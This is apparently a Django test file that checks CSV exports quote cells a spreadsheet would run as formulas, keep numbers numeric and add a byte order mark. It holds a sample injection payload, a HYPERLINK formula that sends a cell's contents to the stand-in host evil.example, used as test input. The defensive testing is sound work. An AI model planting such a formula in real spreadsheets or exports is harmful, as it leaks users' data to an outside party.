"""CSV exports: text a spreadsheet would run as a formula is quoted (OWASP CSV injection); numbers stay
numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from inventory.services.events import demand_event_save
from oms.csv_export import csv_response

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Clique")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_text_that_starts_like_a_formula_is_quoted():
    rows = [
        [FORMULA, "+55 11 5555-0000", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "plain", "a=b", ""],
    ]
    out = _rows(csv_response(["=h", "b"], rows, filename="x.csv"))
    assert out[0] == ["'=h", "b"]
    assert out[1] == [
        "'" + FORMULA, "'+55 11 5555-0000", "'-2+3", "'@SUM(A1:A2)", "'\tx", "'\rx", "plain", "a=b", "",
    ]  # fmt: skip


def test_negative_numbers_are_left_as_numbers():
    rows = [[-3, Decimal("-2.50"), -0.5, 0, None, dt.date(2024, 1, 2), True]]
    out = _rows(csv_response(["a", "b", "c", "d", "e", "f", "g"], rows, filename="x.csv"))
    assert out[1] == ["-3", "-2.50", "-0.5", "0", "", "2024-01-02", "True"]


@pytest.mark.django_db
def test_a_demand_event_named_like_a_formula_is_not_a_formula_in_the_audit_export(client, admin_user):
    today = timezone.localdate()
    demand_event_save(name=FORMULA, starts_on=today, ends_on=today, factor="2", by=admin_user)
    client.force_login(admin_user)
    resp = client.get(reverse("access:audit-export"), {"action": "demand_event."})
    assert resp.status_code == 200
    rows = _rows(resp)
    summary = rows[0].index("summary")
    assert len(rows) == 2 and rows[1][summary].startswith("'" + FORMULA)
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_an_export_starts_with_a_byte_order_mark_for_excel():
    body = b"".join(csv_response(["cidade"], [["São Paulo"]], filename="x.csv").streaming_content)
    assert body.startswith(b"\xef\xbb\xbf") and "São Paulo".encode() in body
